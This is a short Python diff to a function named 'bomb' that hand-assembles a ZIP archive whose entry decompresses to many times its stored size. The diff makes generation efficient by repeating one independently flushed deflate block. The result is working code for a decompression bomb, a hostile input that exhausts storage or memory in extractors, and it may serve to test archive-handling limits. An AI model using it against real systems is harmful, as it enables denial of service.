@@ -57,11 +57,11 @@ def zip64_end(size: int, offset: int, locator: int) -> bytes:
 def bomb(name: str, content: bytes, times: int) -> bytes:
     """An archive in which an entry inflates to `times` as much as its bytes, made without holding it."""
     deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
-    crc, parts = 0, []
+    block = deflater.compress(content) + deflater.flush(zlib.Z_FULL_FLUSH)  # which depends on nothing before it
+    data = block * times + deflater.flush()
+    crc = 0
     for _ in range(times):
         crc = zlib.crc32(content, crc)
-        parts.append(deflater.compress(content))
-    data = b"".join((*parts, deflater.flush()))
     size, encoded = len(content) * times, name.encode()
     fields = (20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded))
     local = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields, 0) + encoded + data
